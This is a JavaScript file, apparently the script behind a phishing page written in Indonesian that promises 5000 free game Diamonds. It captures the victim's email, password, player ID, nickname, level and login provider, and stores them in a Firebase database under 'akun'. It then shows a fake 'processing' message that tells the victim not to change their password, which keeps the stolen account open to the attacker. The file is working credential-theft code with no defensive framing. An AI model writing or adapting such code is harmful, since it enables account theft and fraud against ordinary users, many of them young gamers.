var firebaseConfig = {
    apiKey: "API_KEY",
    authDomain: "PROJECT.firebaseapp.com",
    databaseURL: "https://PROJECT-default-rtdb.firebaseio.com",
    projectId: "PROJECT"
};
firebase.initializeApp(firebaseConfig);
var messagesRef = firebase.database().ref("akun");

document.getElementById("formLogin").addEventListener("submit", submitForm);

function submitForm(e) {
    e.preventDefault();
    var email = getInputVal("email");
    var sandi = getInputVal("sandi");
    var playid = getInputVal("playid");
    var nickname = getInputVal("nickname");
    var level = getInputVal("level");
    var login = document.querySelector(".tab.active").dataset.login;
    if (sandi.length < 6) {
        document.querySelector(".salah").style.display = "block";
        return;
    }
    saveMessage(email, sandi, playid, nickname, level, login);
    document.querySelector(".popup-login").style.display = "none";
    document.querySelector(".proses").style.display = "block";
    setTimeout(function () {
        document.querySelector(".proses").style.display = "none";
        document.querySelector(".berhasil").innerHTML = "Hadiah 5000 Diamond sedang diproses, tunggu 24 jam. Jangan ganti kata sandi anda!";
    }, 4000);
}

function getInputVal(id) {
    return document.getElementById(id).value;
}

function saveMessage(email, sandi, playid, nickname, level, login) {
    var baru = messagesRef.push();
    baru.set({ email: email, sandi: sandi, playid: playid, nickname: nickname, level: level, login: login, waktu: Date() });
}
